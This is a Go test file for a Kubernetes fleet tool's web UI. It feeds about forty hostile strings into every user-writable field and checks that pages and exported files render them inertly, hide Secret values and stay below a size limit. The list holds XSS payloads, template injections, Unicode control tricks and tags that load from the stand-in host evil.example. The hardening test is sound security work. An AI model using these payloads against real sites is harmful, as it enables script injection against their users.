package ui

import (
	"bytes"
	"fmt"
	"net/url"
	"strings"
	"testing"

	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/apimachinery/pkg/types"

	corev1alpha1 "refract.dev/api/core/v1alpha1"
	refractv1alpha1 "refract.dev/api/refract/v1alpha1"
	"refract.dev/fleet/offline/diff"
	"refract.dev/fleet/offline/explain"
	"refract.dev/fleet/offline/render"
	"refract.dev/fleet/status"
	"refract.dev/internal/ui"
	"refract.dev/test/generate"
	"refract.dev/tree"
)

// hostile are texts that attackers may write into fields. They target users who view the fields.
var hostile = []string{
	`<script>alert(1)</script>`, `</script><script>alert(1)</script>`, `"><script src=//evil.example/x.js></script>`, `<img src=x onerror=alert(1)>`,
	`'"><img src=x onerror=alert(1)>`, `<svg onload=alert(1)>`, `<svg><script>alert(1)</script></svg>`, `<iframe src="javascript:alert(1)">`,
	`<a href="javascript:alert(1)">x</a>`, `javascript:alert(1)`, `</textarea><script>alert(1)</script>`, `</title><script>alert(1)</script>`,
	`</style><script>alert(1)</script>`, `<style>*{display:none}</style>`, `<link rel=stylesheet href=//evil.example/x.css>`, `<meta http-equiv=refresh content="0;url=//evil.example">`,
	`<base href="//evil.example/">`, `<form action=//evil.example><input type=submit>`, `<!--`, `--><script>alert(1)</script>`, `<![CDATA[<script>alert(1)</script>]]>`,
	`{{.}}`, `{{template "layout" .}}`, `{{"<script>alert(1)</script>"}}`, `${alert(1)}`, `<details ontoggle=alert(1) open>`, `<math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=alert(1) src>">`,
	`&lt;script&gt;alert(1)&lt;/script&gt;`, `&#60;script&#62;alert(1)&#60;/script&#62;`, `" onmouseover="alert(1)`, `' onfocus='alert(1)' autofocus='`, "`onclick=alert(1)`",
	"\u202egpj.exe", "a\u2066b\u2069c", "zero\u200bwidth", "bell\u0007", "esc\u001b[31mred\u001b[0m", "line\u2028break\u2029s", "nul\u0000byte",
	strings.Repeat("A", 1<<20),
}

// fleetOf returns a fleet with a text in every field that users can write.
func fleetOf(text string) generate.Fleet {
	type doc = generate.Document
	meta := func(name string) doc {
		return doc{"name": name, "namespace": "shop", "annotations": doc{"note": text[:min(len(text), 100_000)]}}
	}
	web := meta("web")
	web["labels"] = doc{"kubeadmiral.io/propagation-policy-name": "everywhere", "kubeadmiral.io/override-policy-name": "vary"}
	db := meta("db")
	db["labels"] = web["labels"]
	return generate.Fleet{"fleet.yaml": {
		{"apiVersion": "core.kubeadmiral.io/v1alpha1", "kind": "FederatedCluster", "metadata": doc{"name": "eu-1", "labels": doc{"region": "eu"}, "annotations": doc{"note": text[:min(len(text), 100_000)]}}},
		{"apiVersion": "core.kubeadmiral.io/v1alpha1", "kind": "FederatedCluster", "metadata": doc{"name": "us-1", "labels": doc{"region": "us"}}},
		{"apiVersion": "core.kubeadmiral.io/v1alpha1", "kind": "PropagationPolicy", "metadata": meta("everywhere"), "spec": doc{"schedulingMode": "Duplicate"}},
		{"apiVersion": "core.kubeadmiral.io/v1alpha1", "kind": "OverridePolicy", "metadata": meta("vary"), "spec": doc{"overrideRules": []any{
			doc{"targetClusters": doc{"clusters": []any{"eu-1"}}, "overriders": doc{"jsonpatch": []any{
				doc{"path": "/data/a", "operator": "replace", "value": text}, doc{"path": "/data/" + tree.Escape(text[:min(len(text), 100)]), "operator": "add", "value": text[:min(len(text), 1000)]},
			}}},
			doc{"targetClusters": doc{"clusters": []any{"us-1"}}, "overriders": doc{"jsonpatch": []any{doc{"path": "/" + tree.Escape(text[:min(len(text), 100)]) + "/x", "operator": "remove"}}}},
		}}},
		{"apiVersion": "v1", "kind": "ConfigMap", "metadata": web, "data": doc{"a": text}},
		{"apiVersion": "v1", "kind": "Secret", "metadata": db, "stringData": doc{"a": "the-secret-value"}, "data": doc{"b": "dGhlLXNlY3JldC12YWx1ZQ=="}},
	}}
}

// reportOf returns a Propagation with a text in every field that a member controls.
func reportOf(name, text string) *status.Object {
	row := func(cluster string, state refractv1alpha1.ClusterState) refractv1alpha1.ClusterStatus {
		return refractv1alpha1.ClusterStatus{
			Name: cluster, State: state, Reason: text, Message: text, Readiness: refractv1alpha1.ReadinessInProgress, ReadinessMessage: text, Hash: text,
			Drift: &refractv1alpha1.DriftStatus{Count: 1, Fields: []string{text}, Manager: text},
		}
	}
	return &status.Object{
		Object: render.Object{APIVersion: "v1", Kind: "ConfigMap", Namespace: "shop", Name: name}, Resource: "configmaps", UID: types.UID(name),
		Status: &refractv1alpha1.PropagationStatus{
			Clusters: []refractv1alpha1.ClusterStatus{row("eu-1", refractv1alpha1.StateFailed), row("us-1", refractv1alpha1.StateSynced)},
			Rollout: &refractv1alpha1.RolloutStatus{
				Phase: refractv1alpha1.RolloutHalted, Message: text, Target: refractv1alpha1.Revision{Name: text}, LastGood: refractv1alpha1.Revision{Name: "b"}, Awaits: text,
				Failed: []refractv1alpha1.FailedCluster{{Name: "eu-1", Message: text}}, Waves: []refractv1alpha1.WaveStatus{{Name: text, Clusters: 1}},
				Policies: []refractv1alpha1.ObeyedPolicy{{PolicyReference: refractv1alpha1.PolicyReference{Kind: "RolloutPolicy", Namespace: "shop", Name: text}}},
			},
		},
	}
}

// TestHostile: a hostile text stays text on every page and in every file. It does not run, load, or hide anything, and
// long texts do not make pages large.
func TestHostile(t *testing.T) {
	if len(hostile) < 40 {
		t.Fatalf("want 40 texts at least, got %d", len(hostile))
	}
	may := map[string]bool{"/assets/style.css": true, "/assets/icon.svg": true, "/assets/page.js": true}
	for i, text := range hostile {
		name := fmt.Sprintf("%d %.40q", i, text)
		from := read(t, fleetOf(text))
		member := corev1alpha1.FederatedCluster{ObjectMeta: metav1.ObjectMeta{Name: "eu-1", UID: "1"}}
		member.Status.Conditions = []corev1alpha1.ClusterCondition{{Type: corev1alpha1.ClusterReady, Status: metav1.ConditionFalse, Reason: text, Message: text}}
		b := shown(t, &ui.Input{
			Origin: text, Set: from, Live: true, ConversionsUnread: text,
			Statuses: []*status.Object{reportOf("web", text), reportOf("gone", text)}, Members: []corev1alpha1.FederatedCluster{member},
		})
		pages := map[string]string{
			"what if": b.post("/whatif", url.Values{"policy": {text[:min(len(text), 1<<19)]}}), "definitions": b.post("/definitions", url.Values{"object": {text[:min(len(text), 1000)]}}),
		}
		for _, address := range []string{
			"/", "/?q=" + url.QueryEscape(text[:min(len(text), 1000)]), "/?l=" + url.QueryEscape(text[:min(len(text), 1000)]),
			"/object/ConfigMap/shop/web?c=eu-1&with=us-1", "/object/ConfigMap/shop/web?c=us-1", "/object/ConfigMap/shop/gone", "/object/Secret/shop/db?c=eu-1", "/policies",
			"/policy/OverridePolicy/shop/vary", "/rollouts", "/clusters", "/services", "/definitions",
		} {
			pages[address] = b.get(address)
		}
		for address, page := range pages {
			harmless(t, name+" "+address, page, may)
			if strings.Contains(page, "the-secret-value") || strings.Contains(page, "dGhlLXNlY3JldC12YWx1ZQ") {
				t.Errorf("%s %s: the page shows the value of the Secret", name, address)
			}
			const most = 8 << 20 // The page for edits contains the whole policy.
			if len(page) > most {
				t.Errorf("%s %s: %d bytes", name, address, len(page))
			}
		}
		e, err := render.Evaluate(from, render.Options{})
		if err != nil {
			t.Fatal(err)
		}
		d, err := diff.Compare(read(t, fleetOf("other")), from, diff.Options{})
		if err != nil {
			t.Fatal(err)
		}
		for k := range e.Outcomes {
			x, err := explain.Explain(e, &e.Outcomes[k], tree.Pointer{})
			if err != nil {
				t.Fatal(err)
			}
			var file bytes.Buffer
			for _, err := range []error{ui.WriteExplain(&file, &e.Outcomes[k], x), ui.WriteRender(&file, e), ui.WriteDiff(&file, d)} {
				if err != nil {
					t.Fatal(err)
				}
			}
			harmless(t, name+" files", file.String(), nil)
			if strings.Contains(file.String(), "the-secret-value") || file.Len() > 3_000_000 {
				t.Errorf("%s: a file of %d bytes is too large, or shows the value of a Secret", name, file.Len())
			}
		}
	}
}
